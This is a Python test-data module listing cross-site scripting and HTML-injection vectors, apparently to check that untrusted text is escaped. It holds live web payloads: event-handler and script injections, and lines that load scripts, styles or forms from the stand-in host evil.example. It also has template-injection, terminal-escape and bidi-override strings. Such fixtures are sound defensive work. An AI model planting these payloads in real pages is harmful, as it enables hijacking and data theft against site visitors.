"""What strangers write to run something in a reader's browser, or to lead it elsewhere."""

from __future__ import annotations

TAGS = ("script", "img src=x", "svg", "body", "iframe", "details open", "video src=x", "input autofocus", "a href=x")
EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover")
ENDS = ("", '">', "'>", "</pre>", "</title>", "</textarea>")
VECTORS = (
    *(f"{end}<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS for end in ENDS),
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>x",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example/x>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "' autofocus onfocus=alert(1) x='",
    "\x1b]8;;//evil.example\x07x",
    "\u202e\u2066<script>alert(1)</script>",
    "x" * 65536,
)  # fmt: skip
